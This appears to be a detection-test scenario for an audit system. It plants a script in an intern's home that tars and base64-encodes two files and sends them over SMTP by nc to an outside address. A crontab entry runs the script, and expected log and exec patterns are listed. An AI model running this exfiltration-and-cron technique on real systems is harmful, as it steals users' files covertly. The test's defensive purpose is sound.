# netcat and a here-document are a mail program.
title="nc speaks SMTP from a user's crontab"
what="A crontab line of the intern runs a script in ~/.local/bin, which packs two files, encodes them and speaks SMTP through nc to 203.0.113.10 port 25. The own mail server has no part in it."
host=mx1.example.org user=intern daemons="cron sshd" audit_rules=audit-wide.rules

setup() {
  mkdir -p /home/intern/.local/bin; head -c 20000 /dev/urandom > /home/intern/prices.ods; echo notes > /home/intern/notes.txt
  cat > /home/intern/.local/bin/upd <<'P'
#!/bin/sh
{ sleep 1; printf 'HELO a\r\n'; sleep 1; printf 'MAIL FROM:<intern@example.org>\r\n'; sleep 1; printf 'RCPT TO:<z@example.net>\r\n'; sleep 1; printf 'DATA\r\n'; sleep 1
  tar -C "$HOME" -cz prices.ods notes.txt | base64; printf '\r\n.\r\nQUIT\r\n'; sleep 1; } | nc -w 8 203.0.113.10 25
touch "$HOME/.cache-done"
P
  chmod 755 /home/intern/.local/bin/upd; chown -R intern: /home/intern
}
act() {
  small_talk 1
  ssh_run intern 'echo "* * * * * ~/.local/bin/upd" | crontab -'
  wait_file /home/intern/.cache-done 90
  crontab -u intern -r
  small_talk 1
}
truth() {
  log_step run 'CRON.*local/bin/upd' 'cron runs the script'
  exec_step speak 'nc(.openbsd)? .*-w 8 203.0.113.10 25' 'nc is started'
  net_step connect '203.0.113.10:25' 'it connects to a mail server outside'
  exec_step encode 'base64' 'an archive is encoded'
}
